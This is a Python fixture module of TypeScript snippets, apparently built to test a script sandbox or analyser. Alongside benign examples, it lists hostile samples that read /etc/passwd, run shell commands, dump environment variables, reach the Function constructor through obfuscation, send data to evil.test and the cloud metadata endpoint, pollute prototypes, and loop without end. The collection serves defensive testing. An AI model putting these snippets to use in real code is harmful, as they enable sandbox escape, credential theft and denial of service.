"""Scripts of type typescript that were written without knowledge of the analysis, to measure it by.

The hosts that they may call are those of `typescript_scripts.HOSTS`.
"""

from __future__ import annotations

from typing import Final

__all__ = ["BLIND_BENIGN", "BLIND_CONTAINED", "BLIND_ENDLESS", "BLIND_HOSTILE"]

BLIND_BENIGN: Final[tuple[str, ...]] = (
    # Retries with a growing pause.
    r"""
    const pause = (ms: number) => new Promise((r) => setTimeout(r, ms));
    async function post(url: string, body: unknown, attempts = 3): Promise<Response> {
      let wait = 50;
      while (true) {
        const response = await fetch(url, { method: "POST", body: JSON.stringify(body) });
        if (response.ok) return response;
        attempts -= 1;
        if (attempts <= 0) throw new Error(`gave up with status ${response.status}`);
        await pause(wait);
        wait *= 2;
      }
    }
    export default async (params: { queue: string }) => {
      const response = await post("https://api.example.com/requeue", { queue: params.queue });
      return await response.json();
    };
    """,
    r"""
    export default async function fix(params: { job: string; limit?: number }) {
      let attempts = 0;
      let status = 0;
      while (attempts < (params.limit ?? 4)) {
        const answer = await fetch("https://api.example.com/jobs/" + params.job + "/restart", { method: "POST" });
        status = answer.status;
        if (status < 500) break;
        attempts++;
      }
      return { attempts, status };
    }
    """,
    # Poll until a job is done.
    r"""
    export default async function fix(params, error) {
      const started = Date.now();
      for (;;) {
        const response = await fetch(`https://api.example.com/jobs/${encodeURIComponent(params.id)}`);
        const job = await response.json();
        if (job.state === "done") return { state: job.state, took: Date.now() - started };
        if (Date.now() - started > 5000) throw new Error("the job is still running");
        await new Promise((resolve) => setTimeout(resolve, 200));
      }
    }
    """,
    # Keys computed from parameters.
    r"""
    type Params = { mapping: Record<string, string>; record: Record<string, unknown> };
    export default function fix(params: Params) {
      const renamed: Record<string, unknown> = {};
      for (const [from, to] of Object.entries(params.mapping)) {
        if (from in params.record) renamed[to] = params.record[from];
      }
      return renamed;
    }
    """,
    r"""
    export default (params: { field: string; rows: Record<string, number>[] }) => {
      const key = params.field;
      const values = params.rows.map((row) => row[key]).filter((value) => value != null);
      const total = values.reduce((sum, value) => sum + value, 0);
      return { total, mean: values.length ? total / values.length : null };
    };
    """,
    r"""
    export default (params: { region: string }) => {
      const endpoints = { eu: "https://api.example.com/eu", us: "https://api.example.com/us" } as const;
      const url = endpoints[params.region as keyof typeof endpoints];
      if (!url) throw new RangeError(`unknown region ${params.region}`);
      return { url };
    };
    """,
    # Count by a key made of two fields.
    r"""
    interface Event { service: string; level: string }
    export default function (params: { events: Event[] }) {
      const counts: Record<string, number> = {};
      for (const event of params.events) {
        counts[`${event.service}:${event.level}`] = (counts[`${event.service}:${event.level}`] || 0) + 1;
      }
      return counts;
    }
    """,
    r"""
    export default function fix(params: { prefix: string; values: string[] }) {
      const out: Record<string, string> = {};
      params.values.forEach((value, index) => {
        out["field_" + (index + 1)] = value.trim();
      });
      return out;
    }
    """,
    # A message taken to pieces by regular expressions.
    r"""
    export default function fix(params: unknown, error: { message: string }) {
      const match = /order (?<id>\d+) of customer (?<customer>[a-z0-9-]+)/i.exec(error.message);
      if (!match?.groups) throw new Error("no order in the message");
      const { id, customer } = match.groups;
      return { id: Number(id), customer };
    }
    """,
    r"""
    export default (_: unknown, error: { message: string }) => {
      const ids = [...error.message.matchAll(/\b[0-9a-f]{8}-[0-9a-f-]{27}\b/g)].map((m) => m[0]);
      const hosts = error.message.match(/[a-z0-9.-]+\.internal/g) ?? [];
      return { ids: [...new Set(ids)], hosts: hosts.slice(0, 10) };
    };
    """,
    r"""
    const pattern = new RegExp("^(\\w+)=(.*)$");
    export default function fix(params: { lines: string }) {
      const result: { [name: string]: string } = {};
      for (const line of params.lines.split("\n")) {
        const found = line.match(pattern);
        if (found) result[found[1]] = found[2].replace(/^"|"$/g, "");
      }
      return result;
    }
    """,
    # Dates and formatting.
    r"""
    export default function fix(params: { at: string; zone: string }) {
      const at = new Date(params.at);
      if (Number.isNaN(at.getTime())) throw new TypeError(`not a date: ${params.at}`);
      const format = new Intl.DateTimeFormat("en-GB", { timeZone: params.zone, dateStyle: "medium", timeStyle: "short" });
      return { local: format.format(at), iso: at.toISOString() };
    }
    """,
    r"""
    export default (params: { amount: number; currency: string; days: number }) => {
      const money = new Intl.NumberFormat("de-DE", { style: "currency", currency: params.currency });
      const relative = new Intl.RelativeTimeFormat("en", { numeric: "auto" });
      return { money: money.format(params.amount), when: relative.format(-params.days, "day") };
    };
    """,
    r"""
    const DAY = 24 * 60 * 60 * 1000;
    export default function fix(params: { from: string; to: string }) {
      const days: string[] = [];
      let cursor = Date.parse(params.from);
      const end = Date.parse(params.to);
      while (cursor <= end && days.length < 366) {
        days.push(new Date(cursor).toISOString().slice(0, 10));
        cursor += DAY;
      }
      return { days };
    }
    """,
    # JSON.
    r"""
    export default function fix(params: { payload: string }) {
      let parsed: any;
      try {
        parsed = JSON.parse(params.payload);
      } catch (error) {
        return { ok: false, reason: error instanceof SyntaxError ? error.message : String(error) };
      }
      return { ok: true, keys: Object.keys(parsed).sort(), size: JSON.stringify(parsed).length };
    }
    """,
    r"""
    const redact = (value: unknown): unknown => {
      if (Array.isArray(value)) return value.map(redact);
      if (value !== null && typeof value === "object") {
        return Object.fromEntries(
          Object.entries(value).map(([key, inner]) => [key, /password|token/i.test(key) ? "***" : redact(inner)]),
        );
      }
      return value;
    };
    export default (params: { document: unknown }) => redact(params.document);
    """,
    # Classes.
    r"""
    class Queue {
      #items: string[] = [];
      constructor(private readonly limit: number) {}
      push(item: string): boolean {
        if (this.#items.length >= this.limit) return false;
        this.#items.push(item);
        return true;
      }
      get size(): number {
        return this.#items.length;
      }
      static of(items: string[], limit = 10): Queue {
        const queue = new Queue(limit);
        for (const item of items) queue.push(item);
        return queue;
      }
    }
    export default (params: { items: string[] }) => ({ size: Queue.of(params.items).size });
    """,
    r"""
    class ApiError extends Error {
      constructor(readonly status: number, message: string) {
        super(message);
        this.name = "ApiError";
      }
    }
    class Client {
      constructor(private base: string) {}
      async get<T>(path: string): Promise<T> {
        const response = await fetch(`https://api.example.com${path}`, { headers: { accept: "application/json" } });
        if (!response.ok) throw new ApiError(response.status, await response.text());
        return (await response.json()) as T;
      }
    }
    export default async function fix(params: { id: number }) {
      const client = new Client("v1");
      const worker = await client.get<{ state: string }>(`/v1/workers/${params.id}`);
      return { state: worker.state };
    }
    """,
    # Generators.
    r"""
    function* chunks<T>(items: T[], size: number): Generator<T[]> {
      for (let start = 0; start < items.length; start += size) yield items.slice(start, start + size);
    }
    export default async function fix(params: { ids: number[] }) {
      let sent = 0;
      for (const part of chunks(params.ids, 100)) {
        const response = await fetch("https://api.example.com/reindex", {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ ids: part }),
        });
        if (response.ok) sent += part.length;
      }
      return { sent };
    }
    """,
    r"""
    function* fibonacci() {
      let [a, b] = [1, 1];
      while (true) {
        yield a;
        [a, b] = [b, a + b];
      }
    }
    export default (params: { below: number }) => {
      const pauses: number[] = [];
      for (const value of fibonacci()) {
        if (value >= params.below) break;
        pauses.push(value);
      }
      return pauses;
    };
    """,
    # Asynchronous iteration over pages.
    r"""
    async function* pages(start: string) {
      let cursor: string | null = start;
      while (cursor) {
        const response = await fetch(`https://api.example.com/items?cursor=${encodeURIComponent(cursor)}`);
        const page: { items: { id: string }[]; next: string | null } = await response.json();
        yield page.items;
        cursor = page.next;
      }
    }
    export default async function fix() {
      const ids: string[] = [];
      for await (const items of pages("first")) ids.push(...items.map(({ id }) => id));
      return { ids };
    }
    """,
    r"""
    export default async function fix(params: { ids: string[] }) {
      const settled = await Promise.allSettled(
        params.ids.map(async (id) => {
          const response = await fetch(`https://hooks.example.com:8443/ping/${id}`, { method: "PUT" });
          if (!response.ok) throw new Error(`${id}: ${response.status}`);
          return id;
        }),
      );
      return {
        done: settled.filter((one) => one.status === "fulfilled").length,
        failed: settled.flatMap((one) => (one.status === "rejected" ? [String(one.reason)] : [])),
      };
    }
    """,
    # A plain script that finds params and error as globals.
    r"""
    const response = await fetch("https://api.example.com/flags/" + params.flag, { method: "DELETE" });
    if (response.status !== 204 && response.status !== 404) {
      throw new Error("the flag was not deleted: " + response.status);
    }
    """,
    r"""
    console.log("looking at", error.message);
    const words = error.message.toLowerCase().split(/\W+/).filter(Boolean);
    const seen = new Map();
    for (const word of words) seen.set(word, (seen.get(word) ?? 0) + 1);
    console.log(JSON.stringify(Object.fromEntries(seen)));
    """,
    # A request that may be cut off.
    r"""
    export default async function fix(params: { key: string }) {
      const controller = new AbortController();
      const timer = setTimeout(() => controller.abort(), 2000);
      try {
        const response = await fetch("https://api.example.com/cache/" + encodeURIComponent(params.key), {
          method: "DELETE",
          signal: controller.signal,
        });
        return { status: response.status };
      } finally {
        clearTimeout(timer);
      }
    }
    """,
    r"""
    export default async function fix(params: { hook: string }) {
      const response = await fetch("https://hooks.example.com:8443/notify", {
        method: "POST",
        body: new URLSearchParams({ hook: params.hook, at: new Date().toISOString() }),
        signal: AbortSignal.timeout(3000),
      });
      return { ok: response.ok, type: response.headers.get("content-type") };
    }
    """,
    r"""
    export default async function fix(params: { page: number }) {
      const url = new URL("https://api.example.com/search");
      url.searchParams.set("page", String(params.page));
      url.searchParams.append("sort", "created_at");
      const response = await fetch(url);
      return await response.json();
    }
    """,
    # Headers and a digest for a signed request.
    r"""
    export default async function fix(params: { secret: string; body: Record<string, unknown> }) {
      const encoder = new TextEncoder();
      const text = JSON.stringify(params.body);
      const key = await crypto.subtle.importKey(
        "raw", encoder.encode(params.secret), { name: "HMAC", hash: "SHA-256" }, false, ["sign"],
      );
      const signature = new Uint8Array(await crypto.subtle.sign("HMAC", key, encoder.encode(text)));
      const hex = Array.from(signature, (byte) => byte.toString(16).padStart(2, "0")).join("");
      const headers = new Headers({ "content-type": "application/json" });
      headers.set("x-signature", `sha256=${hex}`);
      const response = await fetch("https://api.example.com/signed", { method: "POST", headers, body: text });
      return { status: response.status };
    }
    """,
    r"""
    export default async (params: { text: string }) => {
      const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(params.text));
      return { sha256: btoa(String.fromCharCode(...new Uint8Array(digest))), id: crypto.randomUUID() };
    };
    """,
    # Arrays.
    r"""
    export default function fix(params: { rows: { id: number; group: string; at: string }[] }) {
      const groups = new Map<string, typeof params.rows>();
      for (const row of params.rows) {
        const group = groups.get(row.group) ?? [];
        group.push(row);
        groups.set(row.group, group);
      }
      return [...groups].map(([name, rows]) => ({
        name,
        newest: rows.toSorted((a, b) => b.at.localeCompare(a.at))[0].id,
        count: rows.length,
      }));
    }
    """,
    r"""
    export default ({ a, b }: { a: string[]; b: string[] }) => {
      const known = new Set(a);
      const missing = b.filter((item) => !known.has(item));
      const [first, ...rest] = missing;
      return { first: first ?? null, rest, last: missing.at(-1) ?? null };
    };
    """,
    r"""
    export default function fix(params: { matrix: number[][] }) {
      const width = params.matrix[0]?.length ?? 0;
      const sums = new Array(width).fill(0);
      for (let i = 0; i < params.matrix.length; i++) {
        for (let j = 0; j < width; j++) sums[j] += params.matrix[i][j];
      }
      return { sums, largest: Math.max(...sums) };
    }
    """,
    # Worked off until the list is empty.
    r"""
    export default function fix(params: { tree: { name: string; children?: any[] } }) {
      const stack = [params.tree];
      const names: string[] = [];
      while (stack.length > 0) {
        const node = stack.pop()!;
        names.push(node.name);
        for (const child of node.children ?? []) stack.push(child);
      }
      return names;
    }
    """,
    r"""
    const depth = (node: { children?: any[] }): number =>
      1 + Math.max(0, ...(node.children ?? []).map((child) => depth(child)));
    export default (params: { root: { children?: any[] } }) => ({ depth: depth(params.root) });
    """,
    r"""
    export default function fix(params: { text: string }) {
      let text = params.text;
      let rounds = 0;
      do {
        const shorter = text.replace(/\s{2,}/g, " ").replaceAll("\u0000", "");
        if (shorter === text) break;
        text = shorter;
        rounds += 1;
      } while (rounds < 20);
      return { text: text.normalize("NFC"), rounds };
    }
    """,
    # Enumerations, tables of functions, narrowing.
    r"""
    enum Level { Debug, Info, Warn, Error }
    export default function fix(params: { level: keyof typeof Level }) {
      const level = Level[params.level];
      return { level, name: Level[level], loud: level >= Level.Warn };
    }
    """,
    r"""
    const actions: Record<string, (value: number) => number> = {
      double: (value) => value * 2,
      halve: (value) => value / 2,
      negate: (value) => -value,
    };
    export default function fix(params: { action: string; value: number }) {
      const action = actions[params.action];
      if (typeof action !== "function") throw new Error(`no action is called ${params.action}`);
      return { value: action(params.value) };
    }
    """,
    r"""
    type Shape = { kind: "circle"; r: number } | { kind: "square"; a: number };
    const area = (shape: Shape): number => {
      switch (shape.kind) {
        case "circle":
          return Math.PI * shape.r ** 2;
        case "square":
          return shape.a ** 2;
        default: {
          const never: never = shape;
          throw new Error(`unknown ${JSON.stringify(never)}`);
        }
      }
    };
    export default (params: { shapes: Shape[] }) => params.shapes.map(area);
    """,
    # Bytes and base64.
    r"""
    export default (params: { encoded: string }) => {
      const bytes = Uint8Array.from(atob(params.encoded), (char) => char.charCodeAt(0));
      const view = new DataView(bytes.buffer);
      return { length: bytes.length, magic: view.byteLength >= 4 ? view.getUint32(0).toString(16) : null,
               text: new TextDecoder("utf-8", { fatal: false }).decode(bytes.subarray(4)) };
    };
    """,
    r"""
    export default function fix(params: { ids: string[] }) {
      const total = params.ids.map(BigInt).reduce((sum, id) => sum + id, 0n);
      return { total: total.toString(), odd: total % 2n === 1n };
    }
    """,
    # A dynamic set of fields for an update of an API.
    r"""
    export default async function fix(params: { user: string; changes: Record<string, string> }) {
      const allowed = ["name", "email", "locale"];
      const body: Record<string, string> = {};
      for (const field of allowed) {
        if (params.changes[field] !== undefined) body[field] = params.changes[field];
      }
      if (Object.keys(body).length === 0) return { changed: [] };
      const response = await fetch(`https://api.example.com/users/${encodeURIComponent(params.user)}`, {
        method: "PATCH",
        headers: { "Content-Type": "application/json", Authorization: "Bearer " + params.token },
        body: JSON.stringify(body),
      });
      if (response.status === 409) throw new Error("somebody else changed the user");
      return { changed: Object.keys(body), status: response.status };
    }
    """,
    r"""
    async function withRetry<T>(work: () => Promise<T>, tries: number): Promise<T> {
      for (let n = 1; ; n++) {
        try {
          return await work();
        } catch (cause) {
          if (n >= tries) throw new Error(`failed ${n} times`, { cause });
          await new Promise((done) => setTimeout(done, 10 * n));
        }
      }
    }
    export default async () => {
      const text = await withRetry(() => fetch("https://api.example.com/health").then((r) => r.text()), 3);
      return { healthy: text.trim() === "ok" };
    };
    """,
    r"""
    export default async function fix(params: { ids: string[] }) {
      const queue = [...params.ids];
      const results: Record<string, number> = {};
      const worker = async () => {
        let id: string | undefined;
        while ((id = queue.shift()) !== undefined) {
          const response = await fetch(`https://api.example.com/jobs/${id}/retry`, { method: "POST" });
          results[id] = response.status;
        }
      };
      await Promise.all([worker(), worker(), worker()]);
      return results;
    }
    """,
    r"""
    export default async function fix(params, error) {
      const { captured: { uuid = null, number = "0" } = {}, ...rest } = error;
      const level = rest.level?.toUpperCase?.() ?? "ERROR";
      label: for (const outer of [1, 2, 3]) {
        for (const inner of [1, 2, 3]) {
          if (outer * inner === Number(number)) break label;
        }
      }
      return { uuid, level, number: parseInt(number, 10) };
    }
    """,
    r"""
    const fields = ["first", "second"] as const;
    export default (params: Record<(typeof fields)[number], string>) => {
      const copy = structuredClone(params);
      for (const field of fields) copy[field] = copy[field].replace(/[^\w\s-]/g, "");
      return Object.freeze({ ...copy, joined: fields.map((field) => copy[field]).join(", ") });
    };
    """,
)

BLIND_HOSTILE: Final[tuple[str, ...]] = (
    # The runtime's interface.
    r"""export default () => Deno.readTextFileSync("/etc/passwd")""",
    r"""export default async () => (await new Deno.Command("sh", { args: ["-c", "touch pwned"] }).output()).code""",
    r"""export default () => { const { env } = Deno; return env.toObject(); }""",
    r"""const runtime = globalThis["D" + "eno"]; runtime.writeTextFileSync("pwned", "x");""",
    r"""const name = ["De", "no"].join(""); globalThis[name].exit(0);""",
    r"""const all = Object.getOwnPropertyNames(globalThis).filter((n) => n.length === 4 && n[0] === "D");
        globalThis[all[0]].writeTextFileSync("pwned", "x");""",
    r"""export default function () { return this?.Deno?.pid; }""",
    r"""export default () => (0, eval)("Deno.pid")""",
    r"""export default () => { const e = eval; return e("Deno.env.toObject()"); }""",
    r"""export default () => new Function("return Deno.pid")()""",
    r"""export default () => Function("return this")().Deno.pid""",
    # Routes to the constructor of functions.
    r"""export default () => (() => {}).constructor("return Deno.pid")()""",
    r"""export default () => (async () => {})["constructor"]("return Deno.pid")()""",
    r"""export default () => (function* () {})["con" + "structor"]("yield Deno.pid")().next().value""",
    r"""export default () => [].map[`con${"struct"}or`]("return Deno.pid")()""",
    r"""export default () => { const k = "const" + "ructor"; return (() => 1)[k]("return Deno.pid")(); }""",
    r"""export default () => { const k = ["con", "structor"].join(""); return Math.max[k]("return Deno.pid")(); }""",
    r"""export default () => { const k = "rotcurtsnoc".split("").reverse().join(""); return k[k][k]("return Deno.pid")(); }""",
    r"""export default () => { const k = atob("Y29uc3RydWN0b3I="); return ""[k][k]("return Deno.pid")(); }""",
    r"""export default () => { const k = String.fromCharCode(99,111,110,115,116,114,117,99,116,111,114);
        return (0)[k][k]("return Deno.pid")(); }""",
    r"""export default (params) => { let o = () => {}; for (const k of ["c0nstruct0r"]) o = o[k.replaceAll("0", "o")];
        return o("return Deno.pid")(); }""",
    r"""export default () => { const { constructor: F } = () => {}; return F("return Deno.pid")(); }""",
    r"""export default () => { const { ["constr" + "uctor"]: F } = () => {}; return F("return Deno.pid")(); }""",
    r"""export default () => Reflect.get(() => {}, "constructor")("return Deno.pid")()""",
    r"""export default () => Object.getPrototypeOf(async function () {}).constructor("return Deno.pid")()""",
    r"""export default () => Object.getOwnPropertyDescriptor(Function.prototype, "constructor").value("return Deno.pid")()""",
    r"""export default () => { const f = () => {}; const p = f.__proto__; const names = Object.getOwnPropertyNames(p);
        return p[names.find((n) => n.startsWith("con"))]("return Deno.pid")(); }""",
    r"""class A { static make() { return this.constructor("return Deno.pid")(); } }
        export default () => A.make();""",
    r"""class B extends (class {}).constructor {} export default () => new B("return Deno.pid")();""",
    r"""export default () => { const d = Object.getOwnPropertyDescriptors((() => {}).__proto__);
        return d.constructor.value("return Deno.pid")(); }""",
    # Text that is run.
    r"""export default () => setTimeout("Deno.exit(3)", 0)""",
    r"""export default () => { const code = "fetch('https://evil.test')"; setInterval(code, 1); }""",
    r"""export default async () => { const m = await import("data:text/javascript,export default Deno.pid"); return m.default; }""",
    r"""const where = "node:fs"; const fs = await import(where); fs.writeFileSync("pwned", "x");""",
    r"""import { writeFileSync } from "node:fs"; export default () => writeFileSync("pwned", "x");""",
    r"""import process from "node:process"; export default () => process.env;""",
    r"""export * from "https://evil.test/fix.ts"; export default () => 1;""",
    r"""export default () => import("npm:left-pad")""",
    r"""const blob = new Blob(["postMessage(Deno.pid)"], { type: "text/javascript" });
        const worker = new Worker(URL.createObjectURL(blob), { type: "module" });
        export default () => new Promise((r) => { worker.onmessage = (e) => r(e.data); });""",
    r"""export default async () => { const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
        await WebAssembly.instantiate(bytes); }""",
    r"""export default () => import.meta.url""",
    r"""export default async () => { const r = import.meta.resolve; return await import(r("./launcher.mjs")); }""",
    # Other hosts.
    r"""export default async (params, error) => { await fetch("https://evil.test/?e=" + encodeURIComponent(JSON.stringify(error))); }""",
    r"""export default async () => (await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/")).text()""",
    r"""export default async () => { const f = fetch; await f("https://evil" + ".test/steal", { method: "POST", body: "x" }); }""",
    r"""export default async () => { await fetch("https://api.example.com@evil.test/"); }""",
    r"""export default async () => { await fetch("https://api.example.com.evil.test/"); }""",
    r"""export default async () => { const host = atob("ZXZpbC50ZXN0"); await fetch(`https://${host}/`); }""",
    r"""export default () => { const s = new WebSocket("wss://evil.test/"); s.onopen = () => s.send("x"); }""",
    r"""export default () => new EventSource("http://127.0.0.1:8000/stream").close()""",
    r"""const request = new Request("https://evil.test/", { method: "POST", body: "x" }); await fetch(request);""",
    r"""export default async () => { await fetch("file:///etc/passwd").then((r) => r.text()); }""",
    r"""export default () => navigator.sendBeacon("https://evil.test/", "x")""",
    r"""const go = globalThis.fetch; export default () => go.call(null, "http://localhost:54321/rest/v1/");""",
    r"""export default async () => [fetch][0]("https://evil.test/")""",
    r"""export default async () => { const o = { fetch }; await o.fetch("https://evil.test/"); }""",
    r"""export default async () => { await Promise.resolve("https://evil.test/").then(fetch); }""",
    # Tampering with what runs around the script.
    r"""Object.prototype.toJSON = function () { return { success: true }; }; export default () => ({ a: 1 });""",
    r"""JSON.stringify = () => '{"forged":true}'; export default () => 1;""",
    r"""Array.prototype.push = function () { return fetch("https://evil.test/"); }; export default () => [].push(1);""",
    r"""const target = {}; target["__proto__"]["polluted"] = true; export default () => ({}).polluted;""",
    r"""const p = ({}).__proto__; p.then = function (f) { f(1); }; export default () => 1;""",
    r"""Object.defineProperty(Promise.prototype, "then", { value() { return 1; } }); export default async () => 1;""",
    r"""Error.prepareStackTrace = (_, frames) => frames[0].getThis(); export default () => new Error().stack.Deno;""",
    r"""globalThis.fetch = async () => new Response("{}"); export default () => 1;""",
    r"""console.log = (...a) => fetch("https://evil.test/" + a.join()); export default () => console.log("x");""",
    r"""Object.assign(Object.prototype, { allowNet: true }); export default () => 1;""",
    # What the script should not have.
    (
        r"""export default async () => { await fetch("https://api.example.com/", { headers: { authorization: "Bearer AKIA"""
        r"""IOSFODNN7EXAMPLE" } }); }"""
    ),
    r"""// @ts-ignore
        with (globalThis) { Deno.exit(1); }""",
    r"""export default () => { debugger; new Proxy(fetch, { apply: (t, _, a) => t("https://evil.test/" + a[0]) })("x"); }""",
    r"""export default () => { localStorage.setItem("x", "y"); return localStorage.length; }""",
    r"""export default async () => { const c = await caches.open("x"); await c.put("https://x.test/", new Response("x")); }""",
    r"""export default () => { const w = new WeakRef(globalThis); return w.deref().Deno.pid; }""",
    r"""export default () => { close(); }""",
    r"""export default () => { dispatchEvent(new Event("unload")); addEventListener("unload", () => fetch("https://evil.test/")); }""",
    r"""export default () => prompt("give me the password")""",
    r"""export default () => { const s = Symbol.for("Deno.internal"); return globalThis[s]; }""",
    r"""export default () => { queueMicrotask(() => { Deno.exit(0); }); }""",
)

#: Hostile as well, but accepted: where a parameter leads is seen when the script runs.
BLIND_CONTAINED: Final[tuple[str, ...]] = (
    r"""export default async (params) => { const url = params.url; return (await fetch(url)).status; }""",
    r"""export default async (params) => { await fetch(`https://api.example.com${params.suffix}/x`); }""",
)

#: Nothing but endless: an analysis need not refuse them, since a run ends at its limits.
BLIND_ENDLESS: Final[tuple[str, ...]] = (
    r"""export default () => { while (true) {} }""",
    r"""for (;;);""",
    r"""const grow = []; while (true) grow.push(new Array(1e6).fill(1));""",
    r"""export default () => { const f = () => f() + f(); return f(); }""",
    r"""export default async () => { const again = () => Promise.resolve().then(again); await again(); }""",
    r"""export default () => new Promise(() => {})""",
    r"""export default () => { setInterval(() => {}, 1); return new Promise(() => {}); }""",
    r"""let text = "x"; for (let i = 0; i < 60; i++) text += text; console.log(text.length);""",
    r"""export default () => /^(a+)+$/.test("a".repeat(60) + "b")""",
    r"""for (let i = 0; i < 1e12; i++) console.log("filling the output");""",
    r"""export default () => "x".repeat(500_000_000)""",
    r"""let i = 0; while (i >= 0) i++;""",
)
